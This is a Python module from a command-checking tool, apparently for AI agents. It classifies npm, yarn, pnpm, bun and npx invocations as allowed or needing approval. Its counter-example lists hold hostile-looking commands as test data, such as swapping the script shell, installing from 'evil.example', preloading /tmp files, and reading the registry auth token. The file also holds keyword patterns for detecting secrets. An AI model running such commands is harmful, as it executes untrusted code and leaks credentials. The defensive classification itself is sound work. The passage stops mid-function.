"""npm, yarn, pnpm, bun and the runners npx and bunx; node and deno.

A script of package.json is the project's own code: allowed by the profile `node-dev`, keyed by the script's name, in
the project. Every option of npm is also a setting (`--script-shell`, `--node-options`, `--prefix`), so only listed ones
pass.
"""

from __future__ import annotations

import itertools
import re
from dataclasses import replace
from typing import Any

from askfirst.knowledge.globs import below
from askfirst.knowledge.programs import PROGRAM_OF_PACKAGE
from askfirst.model import Action, Fact, Kind, Word
from askfirst.shell.call import Analyst, Call, Outcome
from askfirst.shell.tools.engine import (
    apply,
    call_after,
    facts_of,
    read_action,
    read_fact,
    row,
    starts_interpreter,
    unknown,
)
from askfirst.shell.tools.options import Parsed, parse
from askfirst.shell.tools.package_runners import by_package, is_package
from askfirst.shell.tools.project_code import bare_install, from_lock, place_facts, project_file, runner
from askfirst.shell.tools.scripts import is_risky_script, script_arguments
from askfirst.shell.tools.table import INERT, Reading, Tool, as_shown, asked

__all__ = ["TOOLS"]


def run_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """`npm run NAME [-- ARGUMENTS]`. Without a name it lists the scripts."""
    head, tail = _split(call)
    parsed = parse(tool, head.words[1:])
    if not parsed.operands:
        return Outcome(
            Action(tuple(tool.name.split()), Kind.READ, rule=tool.name, allowed=True, description="lists the scripts"),
            facts_of(tool, head, parsed, analyst),
        )
    name = parsed.operands[0].value
    return _script(
        (*tool.name.split(), name or ""),
        tool,
        call,
        analyst,
        facts_of(tool, head, parsed, analyst),
        (*parsed.operands[1:], *tail),
        name,
    )


def named_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """`npm test`, `npm start`: the script is the sub-command."""
    head, tail = _split(call)
    parsed = parse(tool, head.words[1:])
    return _script(
        tuple(tool.name.split()),
        tool,
        call,
        analyst,
        facts_of(tool, head, parsed, analyst),
        (*parsed.operands, *tail),
        tool.name.rpartition(" ")[2],
    )


def _script(
    key: tuple[str, ...],
    tool: Tool,
    call: Call,
    analyst: Analyst,
    facts: tuple[Fact, ...],
    arguments: tuple[Word, ...],
    name: str | None,
) -> Outcome:
    by = " ".join(key)
    more = [*place_facts(tool, call, analyst), *script_arguments(arguments, call, analyst, by)]
    if name is not None and name.startswith("-"):
        more.append(unknown("option", f"`{name}` comes before the script", call, name))
    if name is None:
        more.append(unknown("expansion", "the script's name is not known", call))
    if name == "env":
        more.append(
            unknown("secrets", "where package.json has no such script, `env` prints every environment variable", call)
        )
    if name is None or is_risky_script(name):
        return Outcome(
            Action(
                key,
                Kind.BUILD,
                rule=tool.name,
                description="runs a script of package.json whose name says that it changes more than files",
                target=" ".join(w.shown for w in arguments),  # `npm run deploy prod` deploys elsewhere
            ),
            (*facts, *more),
        )
    return Outcome(
        Action(
            key,
            Kind.BUILD,
            rule=tool.name,
            allowed=True,
            profile="node-dev",
            description="runs a script of package.json",
        ),
        (*facts, *more),
    )


def _split(call: Call) -> tuple[Call, tuple[Word, ...]]:
    """The words before and behind `--`: what stands behind goes to the script."""
    for index, word in enumerate(call.words):
        if word.value == "--":
            return replace(call, words=call.words[:index]), call.words[index + 1 :]
    return call, ()


_NPM_OPTIONS = """
    flag    -s,--silent -q,--quiet -d -dd -ddd --verbose --json --color --no-color --if-present
    flag    --workspaces -ws --include-workspace-root -iwr --no-audit --no-fund --offline
    flag    --prefer-offline --all -a --long -l --parseable -p --no-progress
    flag    --no-update-notifier --production --link --unicode -h,--help
    value   --loglevel -w,--workspace
    asks    --prefix -C: works on another package
    asks    --script-shell: runs another shell
    asks    --node-options: loads other code
    asks    --registry: uses another registry
    asks    -g,--global: works on the whole machine
    asks    --userconfig --globalconfig: uses other settings
    asks    --editor --browser --viewer --git --shell --node-gyp: runs a program
    asks    --ignore-scripts --no-ignore-scripts: changes which scripts run
"""
_NPM_VALUES = """
    flag    --package-lock-only
    value   --omit --include --depth --audit-level --searchlimit --before
"""


def _npm(
    program: str,
    name: str,
    description: str,
    *,
    kind: Kind = Kind.READ,
    options: str = "",
    **more: Any,
) -> Tool:
    more.setdefault("operands", (INERT, ...))
    return Tool(
        f"{program} {name}",
        kind,
        description,
        key_words=2,
        options=_NPM_OPTIONS + _NPM_VALUES + options,
        **more,
    )


def _install(program: str, name: str, description: str, kind: Kind = Kind.INSTALL, **more: Any) -> Tool:
    return asked(f"{program} {name}".strip(), description, kind, key_words=2, **more)


_NPM_MANIFEST = "installs what package.json and the lock file say"


def _npm_install(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    bare = _npm(
        "npm",
        "install",
        _NPM_MANIFEST,
        kind=Kind.INSTALL,
        profile="node-dev",
        operands=(),
        options="flag --ignore-scripts --legacy-peer-deps --no-bin-links --strict-peer-deps --include-workspace-root",
    )
    return bare_install(bare, replace(tool, special=None), call, analyst)


def _config_get(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    outcome = apply(replace(tool, special=None), call, analyst)
    secret = next(
        (
            w
            for w in call.words
            if any(s in (w.value or w.text).lower() for s in ("_auth", "_password", "token", "//", "key", "secret"))
        ),
        None,
    )
    return (
        outcome
        if secret is None
        else replace(
            outcome,
            facts=(*outcome.facts, unknown("secret", "shows a registry's password or token", call, secret.text)),
        )
    )


_LOOKS: dict[str, str] = {
    "ls list la ll": "lists installed packages",
    "outdated": "lists outdated packages",
    "view v info show": "shows a package of the registry",
    "why explain": "says why a package is installed",
    "search s se find": "searches the registry",
    "prefix root bin": "shows a directory",
    "ping": "asks the registry whether it answers",
    "fund": "lists funding",
    "doctor": "checks the installation",
    "query": "finds installed packages",
    "sbom": "lists components",
    "help help-search": "shows help",
    "completion": "shows completions",
    "stars": "lists favourites",
    "whoami": "says who is logged in",
}


# Commands whose operand may be anything that can be installed: a directory, an archive, a repository, which npm fetches
# with git, and which runs its `prepare` script.
_PACKAGES = "view v info show fund outdated"


def _of_registry(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """Only names of the registry pass: `react`, `@types/node@20`, and fields of what is shown."""
    outcome = row(tool, call, analyst)
    return replace(outcome, facts=(*outcome.facts, *_not_of_registry(tool, call)))


def _not_of_registry(tool: Tool, call: Call) -> tuple[Fact, ...]:
    odd = [w for w in parse(tool, call.words[1:]).operands if not _is_registry_name(w.value)]
    why = "it may be fetched with git, and its scripts run"
    return tuple(unknown("package", why, call, w.text) for w in odd)


def _is_registry_name(text: str | None) -> bool:
    if text is None or text.startswith((".", "~", "/")) or text.endswith((".tgz", ".tar", ".tar.gz")):
        return False
    scope, slash, name = text.partition("/")
    return ":" not in text and "/" not in name and (not slash or scope.startswith("@"))


def _npm_rows() -> dict[str, Tool]:
    rows: dict[str, Tool] = {}
    for names, description in _LOOKS.items():
        for name in names.split():
            rows[name] = _npm(
                "npm",
                name,
                description,
                options="""
                    flag    -g,--global --omit-lockfile-registry-resolved --expect-results
                    flag    --versions --description
                    value   --sbom-format --sbom-type --expect-result-count
                """,
                special=_of_registry if name in _PACKAGES.split() else None,
            )
    for alias in ("run", "run-script", "rum", "urn"):
        rows[alias] = _npm("npm", "run", "runs a script of package.json", kind=Kind.BUILD, special=run_script)
    for alias, name in (
        ("test", "test"),
        ("t", "test"),
        ("tst", "test"),
        ("start", "start"),
        ("stop", "stop"),
    ):
        rows[alias] = _npm("npm", name, "runs a script of package.json", kind=Kind.BUILD, special=named_script)
    rows |= {
        "audit": _npm(
            "npm",
            "audit",
            "looks for known weaknesses",
            operands=(),
            examples=("npm audit --omit=dev",),
            counter_examples=("npm audit fix",),
        ),
        "config": Tool(
            "npm config",
            Kind.READ,
            "shows settings",
            key_words=2,
            subcommands={
                "get": _npm(
                    "npm",
                    "config get",
                    "shows a setting",
                    special=_config_get,
                    examples=("npm config get registry",),
                    counter_examples=("npm config get //registry.npmjs.org/:_authToken",),
                ),
                "list": _npm("npm", "config list", "shows settings", operands=()),
                "ls": _npm("npm", "config ls", "shows settings", operands=()),
            },
            counter_examples=("npm config set script-shell /tmp/evil",),
        ),
        "get": _npm("npm", "get", "shows a setting", special=_config_get),
        "cache": Tool(
            "npm cache",
            Kind.READ,
            "the cache",
            key_words=2,
            subcommands={"ls": _npm("npm", "cache ls", "lists the cache")},
            counter_examples=("npm cache add x",),
        ),
        "pkg": Tool(
            "npm pkg",
            Kind.READ,
            "package.json",
            key_words=2,
            subcommands={"get": _npm("npm", "pkg get", "shows package.json")},
            counter_examples=("npm pkg set scripts.test=x",),
        ),
        "access": Tool(
            "npm access",
            Kind.READ,
            "who may publish",
            key_words=2,
            subcommands={
                "list": _npm("npm", "access list", "shows who may publish"),
                "get": _npm("npm", "access get", "shows who may publish"),
            },
        ),
        "version": _npm("npm", "version", "shows versions", operands=()),
        "pack": _npm(
            "npm",
            "pack",
            "packs this package",
            kind=Kind.BUILD,
            profile="node-dev",
            options="flag --dry-run",
            operands=(),
            special=runner,
        ),
        "exec": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
        "x": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
        "publish": _install(
            "npm",
            "publish",
            "publishes this package",
            Kind.NETWORK,
            danger="publishes to the registry: others install it, and it can hardly be taken back",
        ),
        "unpublish": _install(
            "npm",
            "unpublish",
            "removes a published package",
            Kind.DESTRUCTIVE,
            danger="removes a published package that others depend on",
        ),
        "rebuild": _install("npm", "rebuild", "runs build scripts of installed packages"),
        "init": _install("npm", "init", "makes a package, or runs an initializer"),
    }
    for names, what in (
        (
            "install i in ins inst insta instal isnt isnta isntal isntall add",
            "fetches and installs packages, and runs their scripts",
        ),
        ("update up upgrade udpate", "updates packages"),
        ("uninstall un remove rm r unlink", "removes packages"),
        ("link ln", "links a package"),
        ("dedupe prune", "changes installed packages"),
    ):
        for name in names.split():
            rows[name] = _install("npm", names.split()[0], what)
    for name in "install i in ins inst insta instal isnt isnta isntal isntall".split():
        rows[name] = replace(
            rows[name],
            special=_npm_install,
            examples=("npm install", "npm i --no-audit --no-fund", "npm install --legacy-peer-deps"),
            counter_examples=("npm install lodash", "npm install -g", "npm install --registry https://evil.example"),
        )
    for name in ("ci", "clean-install", "ic", "install-clean", "isntall-clean"):
        rows[name] = _npm(
            "npm",
            "ci",
            "installs what the lock file says",
            kind=Kind.INSTALL,
            special=from_lock,
            profile="node-dev",
            operands=(),
            options="flag --ignore-scripts --legacy-peer-deps --no-bin-links --strict-peer-deps",
            examples=("npm ci", "npm ci --no-audit --no-fund"),
            counter_examples=(
                "npm ci --registry https://evil.example",
                "npm ci --script-shell=x",
                "npm ci --prefix /tmp/x",
            ),
        )
    rows["c"] = rows["config"]
    for name in ("exec", "x"):
        rows[name] = replace(
            rows[name],
            special=execute,
            examples=("npm exec tsc -- --noEmit", "npm exec -- eslint ."),
            counter_examples=("npm exec evil", "npm exec -c x", "npm exec -p evil tsc", "npm exec -- touch x"),
        )
    return rows


def execute(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """`npm exec tsc -- --noEmit`: a well-known tool of the project counts as what it is."""
    words = tuple(w for w in call.words[1:] if w.value != "--")
    found = as_tool(tuple(tool.name.split()), words, call, analyst)
    if found is not None:
        return found
    outcome, given = row(tool, call, analyst), call.words[1:]
    at = next((n for n, w in enumerate(given) if w.value == "--"), -1)
    # Up to `--` npm takes every option for its own, wherever it stands.
    own = any(w.value is None or w.value.startswith("-") for w in given[:at])
    name = words[0].value if words else None
    if at < 0 or own or not is_package(name):
        return outcome
    return replace(outcome, action=by_package(("npm", "exec", name or ""), "npm exec"))


def as_tool(key: tuple[str, ...], words: tuple[Word, ...], call: Call, analyst: Analyst) -> Outcome | None:
    """What a tool that the tables know does when a package manager starts it; None when it is another program."""
    from askfirst.shell.tools.node.tools import TOOLS as tools

    name = (words[0].value if words else None) or ""
    known = tools.get(PROGRAM_OF_PACKAGE.get(name, name))
    if known is None:
        return None
    outcome = apply(known, call_after(call, words[1:]), analyst)
    return replace(outcome, action=replace(outcome.action, key=(*key, *outcome.action.key)))


_NPM = Tool(
    "npm",
    Kind.READ,
    "packages and scripts of Node",
    options=_NPM_OPTIONS + "flag -v,--version",
    key_words=2,
    examples=(
        "npm --version",
        "npm test",
        "npm test -- --watch=false",
        "npm run build -- argument --option",
        "npm t",
        "npm ls --global",
        "npm view react version",
        "npm view @types/node@20 dist-tags.latest",
        "npm run",
        "npm run test -- src/foo.test.ts",
    ),
    counter_examples=(
        "npm run build --script-shell=/tmp/evil",
        "npm --prefix=/tmp/evilpkg t",
        "npm -C /tmp/evilpkg run build",
        "npm test -- --globalSetup=/tmp/evil.js",
        "npm --loglevel silent exec evil",
        "npm urn test --prefix /tmp/evilpkg",
        "npm run deploy",
        "npm install evil",
        "npm ls --node-options=x",
        "npm exec -c x",
        "npm init evil",
        "npm diff --diff=git+file:///tmp/evil",
        "npm view git+file:///tmp/evil",
        "npm view someone/repository",
        "npm view ./evil",
        "npm audit --package-lock-only fix",
        "npm run $x",
        "npm test -- --config ./x.js",
    ),
    subcommands=_npm_rows(),
)

_YARN_LOOK = _npm("yarn", "list", "shows packages", options="flag -R -A --recursive --pattern --name-only --strict")
_PNPM_LOOK = _npm(
    "pnpm",
    "list",
    "shows packages",
    options="""
        flag    -r,--recursive -P -D,--dev --prod --no-optional --compatible --only-projects
        flag    -g,--global
        value   --filter -F,--format
    """,
)

# -- yarn and pnpm: a word that is no command of theirs is a script ----------------------------------------------------

_YARN_LOOKS = "why info list outdated audit versions licenses check help"
_YARN_ASKS = frozenset(
    "add remove upgrade up install init create dlx exec node link unlink global publish pack cache config set plugin "
    "patch patch-commit rebuild import login logout npm owner tag team upgrade-interactive version autoclean policies "
    "generate-lock-entry dedupe unplug stage search workspaces bin dir env".split()
)
_SCRIPTS = frozenset(
    "test build lint typecheck type-check types check format fmt dev start compile clean coverage e2e unit integration "
    "ci validate verify docs storybook bundle tsc eslint jest vitest prettier constraints".split()  # `yarn.config.cjs`
)


def yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """What yarn does. A repository may bring its own yarn and plugins along: then even the version is the project's own
    code.
    """
    outcome = _yarn(tool, call, analyst)
    if outcome.action.profile or not outcome.action.allowed or not _brings_yarn(call, analyst):
        return outcome
    return replace(outcome, action=replace(outcome.action, profile="node-dev"))


def _brings_yarn(call: Call, analyst: Analyst) -> bool:
    folder = call.cwd or analyst.project
    while True:
        for name, marks in ((".yarnrc.yml", ("yarnPath", "plugins")), (".yarnrc", ("yarn-path",))):
            text = analyst.read_file(f"{folder}/{name}") or ""
            if any(mark in text for mark in marks):
                return True
        if len(folder) <= len(analyst.project):
            return False
        folder = folder.rpartition("/")[0]


def _yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    head, tail = _split(call)
    parsed = parse(tool, head.words[1:], stop_at_operand=True)
    facts = list(facts_of(tool, head, replace(parsed, operands=()), analyst))
    rest = head.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
    if not rest:
        if parsed.has("-v", "--version", "-h", "--help"):
            return Outcome(read_action((tool.name, "--version"), "shows the version"), tuple(facts))
        return _frozen(tool, head, analyst, facts)
    rest = _in_workspace(rest)
    name = rest[0].value
    if name == "install":
        return _frozen(tool, call_after(call, rest[1:]), analyst, facts)
    if name == "run":
        if len(rest) == 1:
            return Outcome(read_action((tool.name, "run"), "lists the scripts"), tuple(facts))
        rest = rest[1:]
    elif name in ("exec", "dlx"):
        found = as_tool((tool.name, name), (*rest[1:], *tail), call, analyst)
        if found is not None:
            return replace(found, facts=(*facts, *found.facts))
        return _known_yarn(tool, name, rest, call, tuple(facts))
    elif name in _YARN_ASKS:
        return _known_yarn(tool, name, rest, call, tuple(facts))
    if rest[0].value in _YARN_LOOKS.split():
        return _shown(tool, rest[0].value or "", _YARN_LOOK, call_after(call, rest[1:]), analyst, facts)
    return _yarn_script(tool, rest, tail, call, analyst, facts)


def _in_workspace(rest: tuple[Word, ...]) -> tuple[Word, ...]:
    """`yarn workspace NAME COMMAND` and `yarn workspaces foreach … run COMMAND` do what COMMAND does."""
    name = rest[0].value
    if name == "workspace" and len(rest) > 2 and rest[1].value is not None:
        return rest[2:]
    if name == "workspaces" and len(rest) > 2 and rest[1].value in ("foreach", "run"):
        at = next((i for i, w in enumerate(rest[1:], 2) if w.value == "run"), len(rest))
        if at < len(rest) and all(w.value in _FOREACH for w in rest[2 : at - 1]):
            return rest[at:]
    return rest


def _yarn_script(
    tool: Tool, rest: tuple[Word, ...], tail: tuple[Word, ...], call: Call, analyst: Analyst, facts: list[Fact]
) -> Outcome:
    """A script of package.json, or else a program of an installed package."""
    name = rest[0].value
    if name is not None and not _has_script(name, call, analyst):
        found = as_tool((tool.name, "run"), (*rest, *tail), call, analyst)
        if found is not None:
            return replace(found, facts=(*facts, *found.facts))
        if not _sounds_like_script(name):
            return Outcome(
                Action(
                    (tool.name, "run", name),
                    Kind.WRAPPER,
                    rule=tool.name,
                    description="runs a script or a program of a package",
                    target=as_shown(rest),
                ),
                tuple(facts),
            )
    return _script((tool.name, "run", name or ""), tool, call, analyst, tuple(facts), (*rest[1:], *tail), name)


_FOREACH = frozenset(
    "-A --all -p --parallel -t --topological -v --verbose -pt -pv "
    "-ptv -Apt -Ap -At -W --worktree -R --recursive -i -j".split()
)


def _sounds_like_script(name: str) -> bool:
    return name in _SCRIPTS or ":" in name or name.partition("-")[0] in _SCRIPTS


_FROZEN = Word("--frozen-lockfile", "--frozen-lockfile")


def _frozen(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
    """An installation that leaves the lock file as it is comes from the team; any other asks."""
    frozen = Tool(
        f"{tool.name} install",
        Kind.INSTALL,
        "installs what the lock file says",
        profile="node-dev",
        options="""
            flag    --frozen-lockfile --immutable --immutable-cache --ignore-scripts --offline
            flag    --prefer-offline --silent -s --no-progress --non-interactive --check-cache
            flag    --inline-builds --production -P,--prod -D,--dev --no-optional -r,--recursive
            flag    --ignore-pnpmfile
            value   --reporter --mode
        """,
        operands=(),
        key_words=2,
    )
    if not parse(frozen, call.words[1:]).has("--frozen-lockfile", "--immutable"):
        asked = _install(tool.name, "install", "installs packages, and may change the lock file")
        outcome = bare_install(replace(frozen, description=_NPM_MANIFEST), asked, call, analyst)
    else:
        outcome = from_lock(frozen, call, analyst)
    return replace(outcome, facts=(*facts, *outcome.facts))


def _shown(tool: Tool, name: str, row: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
    outcome = apply(row, call, analyst)
    odd = _not_of_registry(row, call) if name in _PACKAGES.split() else ()
    return replace(
        outcome,
        action=replace(outcome.action, key=(tool.name, name), rule=f"{tool.name} {name}"),
        facts=(*facts, *outcome.facts, *odd),
    )


def _known_yarn(tool: Tool, name: str, rest: tuple[Word, ...], call: Call, facts: tuple[Fact, ...]) -> Outcome:
    second = rest[1].value if len(rest) > 1 else None
    looks = {
        ("config", "get"),
        ("config", "list"),
        ("cache", "dir"),
        ("cache", "list"),
        ("workspaces", "list"),
        ("workspaces", "info"),
        ("npm", "info"),
        ("npm", "whoami"),
        ("npm", "audit"),
        ("bin", None),
        ("version", None),
    }
    secret = any(s in (w.value or w.text).lower() for w in rest for s in ("auth", "token", "password", "secret"))
    if (name, second) in looks and not secret and not any((w.value or "-").startswith("-") for w in rest[2:]):
        return Outcome(
            Action(
                (tool.name, name, second or ""),
                Kind.READ,
                rule=f"{tool.name} {name}",
                allowed=True,
                description="shows settings or packages",
            ),
            facts,
        )
    kind = (
        Kind.WRAPPER
        if name in ("exec", "dlx", "node", "create", "npx")
        else Kind.NETWORK
        if name in ("publish", "login", "npm")
        else Kind.INSTALL
    )
    return _changes(tool, name, kind, rest, facts)


_PNPM_LOOKS = "why ls list ll la outdated audit licenses info view show search root bin help doctor"
# Its own commands come before scripts of the same name (`pnpm help -a`, 12.18); only of clean, purge and tasks a script
# comes first.
_PNPM_ASKS = frozenset(
    "access change lane deprecate undeprecate unpublish star unstar stars dist-tag dist-tags ping whoami stage peers "
    "set-script ss pipeline runtime rt shim permissions approve pack-app adduser team owner owners with profile token "
    "uni find s se v ln dislink home issues prefix sbom licences pm xmas purge "
    "add install i update up upgrade remove rm uninstall un link unlink import rebuild rb prune fetch install-test "
    "it dedupe patch patch-commit patch-remove publish pack deploy dlx exec create init store cache "
    "config get set env server setup self-update approve-builds ignored-builds login logout pkg version completion c "
    "x node npx cat-file cat-index find-hash docs bugs repo edit explore".split()
)


_PNPM_INSTALLS = {"install": (), "i": (), **dict.fromkeys(("ci", "clean-install", "ic", "install-clean"), (_FROZEN,))}


def pnpm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """pnpm takes a word that is neither a command nor a script for a program on the PATH: only likely scripts pass."""
    head, tail = _split(call)
    parsed = parse(tool, head.words[1:], stop_at_operand=True)
    facts = list(facts_of(tool, head, replace(parsed, operands=()), analyst))
    rest = head.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
    if not rest:
        return Outcome(read_action((tool.name, "--version"), "shows the version or the help"), tuple(facts))
    name = rest[0].value
    if name in ("run", "run-script") and len(rest) > 1:
        rest = _named_by_pnpm(tool, rest, call, analyst, facts)
        if not rest:
            return Outcome(read_action((tool.name, "run"), "lists the scripts"), tuple(facts))
        name = rest[0].value
    elif name in ("t", "tst"):
        name = "test"
    else:
        outcome = _pnpm_command(tool, name, rest, tail, call, analyst, facts)
        if outcome is not None:
            return outcome
    return _script((tool.name, "run", name or ""), tool, call, analyst, tuple(facts), (*rest[1:], *tail), name)


def _named_by_pnpm(
    tool: Tool, rest: tuple[Word, ...], call: Call, analyst: Analyst, facts: list[Fact]
) -> tuple[Word, ...]:
    """The script behind `pnpm run OPTIONS`, with its arguments; the facts of the options are added."""
    parsed = parse(tool, rest[1:], stop_at_operand=True)
    facts += facts_of(tool, call, replace(parsed, operands=()), analyst)
    return rest[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()


def _pnpm_command(
    tool: Tool,
    name: str | None,
    rest: tuple[Word, ...],
    tail: tuple[Word, ...],
    call: Call,
    analyst: Analyst,
    facts: list[Fact],
) -> Outcome | None:
    """A command of pnpm's own or a program; None for a script."""
    if name in ("recursive", "multi", "m"):
        action = Action((tool.name, name), Kind.INSTALL, rule=tool.name, description="works on all packages")
        return Outcome(action, tuple(facts))
    if name is not None and name in _PNPM_LOOKS.split():
        return _shown(tool, name, _PNPM_LOOK, call_after(call, rest[1:]), analyst, facts)
    if name in _PNPM_INSTALLS:
        return _frozen(tool, call_after(call, (*rest[1:], *_PNPM_INSTALLS[name])), analyst, facts)
    if name in ("exec", "dlx"):
        found = as_tool((tool.name, name), (*rest[1:], *tail), call, analyst)
    elif name is None or name in _PNPM_ASKS or name == "run":
        found = None
    elif _has_script(name, call, analyst):
        return None
    else:
        found = as_tool((tool.name,), (*rest, *tail), call, analyst)
        if found is None and _sounds_like_script(name):
            return None
        if found is None:
            why = "runs a script or a program of that name"
            return Outcome(Action((tool.name, name), Kind.WRAPPER, rule=tool.name, description=why), tuple(facts))
    if found is not None:
        return replace(found, facts=(*facts, *found.facts))
    return _pnpm_known(tool, name or "", rest, tuple(facts))


def _pnpm_known(tool: Tool, name: str, rest: tuple[Word, ...], facts: tuple[Fact, ...]) -> Outcome:
    second = rest[1].value if len(rest) > 1 else None
    looks = {
        ("store", "path"),
        ("store", "status"),
        ("config", "list"),
        ("server", "status"),
        ("env", "list"),
        ("completion", "bash"),
        ("completion", "zsh"),
    }
    if (name, second) in looks and len(rest) == 2:
        return Outcome(
            Action(
                (tool.name, name, second or ""),
                Kind.READ,
                rule=f"{tool.name} {name}",
                allowed=True,
                description="shows settings",
            ),
            facts,
        )
    kind = (
        Kind.WRAPPER
        if name in ("exec", "dlx", "create", "x", "node", "npx")
        else Kind.NETWORK
        if name in ("publish", "deploy")
        else Kind.INSTALL
    )
    return _changes(tool, name, kind, rest, facts)


def _has_script(name: str, call: Call, analyst: Analyst) -> bool:
    text = analyst.read_file(f"{call.cwd}/package.json") if call.cwd is not None else None
    return text is not None and f'"{name}":' in text.replace('" :', '":')


# -- bun ---------------------------------------------------------------------------------------------------------------


def _bun_x(words: tuple[Word, ...], call: Call, analyst: Analyst) -> Outcome | None:
    """`bun x PACKAGE`, as bunx; None where it is told its package in another way."""
    found = as_tool(("bun", "x"), words[2:], call, analyst)
    if found is None and (fetched := _fetched("x", words[1:])) is not None:
        return Outcome(by_package(("bun", "x", fetched), "bun x"))
    return found


def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    words = call.words
    first = words[1].value if len(words) > 1 else None
    shown = _bun_shows(words)
    if shown is not None:
        return Outcome(shown)
    if first == "test":
        return apply(_BUN_TEST, call_after(call, words[2:]), analyst)
    if first == "run" and len(words) > 2:
        return _bun_run(tool, call, analyst)
    if first == "x" and (found := _bun_x(words, call, analyst)) is not None:
        return found
    if first in ("install", "i", "ci"):
        given = words[2:] if first != "ci" else (*words[2:], _FROZEN)
        return _frozen(tool, call_after(call, given), analyst, [])
    if first is not None and first.endswith((".js", ".ts", ".mjs", ".tsx", ".jsx")):
        return project_file(tool, call, analyst, words[1], tests="node-dev")
    kind = Kind.INSTALL if first in ("add", "remove", "update", "link") else Kind.WRAPPER
    facts = () if kind == Kind.INSTALL else (unknown("inline code", "bun runs code or a program", call),)
    return Outcome(
        Action(
            ("bun", first or ""),
            kind,
            rule="bun",
            description="installs packages or runs code",
            target=as_shown(words[2:]),
        ),
        facts,
    )


def _bun_shows(words: tuple[Word, ...]) -> Action | None:
    given = [w.value for w in words[1:]]
    if len(given) == 1 and given[0] in ("--version", "-v", "--revision", "--help", "-h"):
        return read_action(("bun", "--version"), "shows the version")
    if len(given) == 1 and given[0] in ("outdated", "why", "audit"):
        return read_action(("bun", given[0]), "shows packages")
    if _is_bun_info(given):
        return read_action(("bun", "info"), "shows what the registry says about a package")
    if len(given) == 2 and given[0] == "pm" and given[1] in _BUN_PM_LOOKS:
        return read_action(("bun", "pm", given[1]), "shows packages", rule="bun pm")
    return None


def _is_bun_info(given: list[str | None]) -> bool:
    """`bun info react versions`, `bun pm view react --json`."""
    named = given[2:] if given[:2] == ["pm", "view"] else given[1:] if given[:1] == ["info"] else []
    return bool(named) and is_package(named[0]) and all(w == "--json" or (w or "-").isalnum() for w in named[1:])


_BUN_PM_LOOKS = ("ls", "bin", "cache", "hash", "hash-string", "default-trusted", "whoami")


def _bun_run(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """`bun run` takes a file, a script of package.json, or the name of a program."""
    words = call.words
    name = words[2].value
    if name is None or name.startswith("-"):
        return Outcome(
            Action(("bun", "run"), Kind.CODE, rule="bun run"),
            (unknown("option", "what bun would run is not known", call),),
        )
    if "/" in name or name.endswith((".js", ".ts", ".mjs", ".cjs", ".tsx", ".jsx")):
        return project_file(tool, call, analyst, words[2], tests="node-dev")
    arguments = tuple(w for w in words[3:] if w.value != "--")
    if not _has_script(name, call, analyst):
        found = as_tool(("bun", "run"), (words[2], *arguments), call, analyst)
        if found is not None:
            return found
        if not _sounds_like_script(name):
            why = "runs a script or a program of that name"
            return Outcome(Action(("bun", "run", name), Kind.WRAPPER, rule="bun run", description=why))
    return _script(("bun", "run", name), replace(tool, name="bun run"), call, analyst, (), arguments, name)


_BUN_TEST = Tool(
    "bun test",
    Kind.BUILD,
    "runs the project's tests",
    profile="node-dev",
    options="""
        flag    -u,--update-snapshots --todo --only --coverage --watch --bail
        value   -t,--test-name-pattern --timeout --rerun-each --coverage-reporter
        asks    --preload -r: loads other code
        asks    -c,--config: uses other settings
        asks    --cwd: runs elsewhere
        asks    --coverage-dir: writes elsewhere
    """,
    operands=(INERT, ...),
    key_words=2,
    examples=("bun test", "bun run build", "bun --version", "bun info react versions", "bun pm view react --json"),
    counter_examples=(
        "bun info ./evil",
        "bun info git+file:///tmp/evil",
        "bun info react --registry=https://evil.example",
        "bun test --preload /tmp/x.ts",
        "bun -e 'x()'",
        "bun x evil",
        "bun run ./evil.ts",
        "bun add evil",
        "bun run deploy",
    ),
    special=runner,
)

# -- npx and its kin ---------------------------------------------------------------------------------------------------


def _changes(tool: Tool, name: str, kind: Kind, rest: tuple[Word, ...], facts: tuple[Fact, ...]) -> Outcome:
    """A sub-command of pnpm, yarn or bun that no row allows."""
    if (fetched := _fetched(name, rest)) is not None:
        return Outcome(by_package((tool.name, name, fetched), f"{tool.name} {name}"), facts)
    return Outcome(
        Action(
            (tool.name, name),
            kind,
            rule=f"{tool.name} {name}",
            description="changes packages or settings, or runs a program",
            target=as_shown(rest[1:]),
        ),
        facts,
    )


def _fetched(name: str, rest: tuple[Word, ...]) -> str | None:
    """The package that `pnpm dlx` and its kin fetch."""
    given = rest[1].value if name in ("dlx", "x") and len(rest) > 1 else None
    return given if is_package(given) else None


def npx(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """A well-known tool of the project is judged like the tool itself; anything else would be fetched and run."""
    words, at = call.words, 1
    while at < len(words) and words[at].value in _NPX_INERT:
        at += 1
    name = words[at].value if at < len(words) else None
    if len(words) == 2 and name in ("--version", "-v", "--help", "-h"):
        return Outcome(
            Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version")
        )
    found = as_tool((tool.name,), words[at:], call, analyst)
    if found is not None and found.action.rule:
        return found
    shown = as_shown(words[at:])
    action = by_package((tool.name, name or ""), tool.name)
    if name is not None and is_package(name):
        lock = _pinned_by(name, call, analyst)
        about = f"runs a package of the project, which {lock} pins" if lock else action.description
        return Outcome(replace(action, description=about), found.facts if found is not None else ())
    why = f"`{tool.name}` fetches and runs what it is given"
    return Outcome(replace(action, target=shown, free=False), (unknown("package runner", why, call, shown),))


def _pinned_by(name: str, call: Call, analyst: Analyst) -> str:
    """The lock file that names a package which lies here; "" where it would be fetched. A version in the command may be
    another one."""
    folder = call.cwd or ""
